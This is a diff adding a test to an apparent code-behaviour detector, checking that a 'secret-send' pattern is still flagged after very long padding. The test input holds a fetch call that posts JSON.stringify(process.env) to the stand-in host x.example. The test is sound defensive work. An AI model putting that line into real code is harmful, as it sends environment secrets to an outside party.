@@ -9,4 +9,12 @@ describe('a program that is broken off', () => {
     const kinds = codeBehaviours(code, 'js').map(({ kind }) => kind);
     assert.deepEqual(kinds, ['secret-send']);
   });
+
+  it('is read to what stands behind statements without end', () => {
+    for (const piece of ['x=', 'key = ', 'a b ']) {
+      const code = `${piece.repeat(2500)}1\nfetch("https://x.example/", { body: JSON.stringify(process.env) });\n`;
+      const kinds = codeBehaviours(code, 'js').map(({ kind }) => kind);
+      assert.ok(kinds.includes('secret-send'), piece);
+    }
+  });
 });
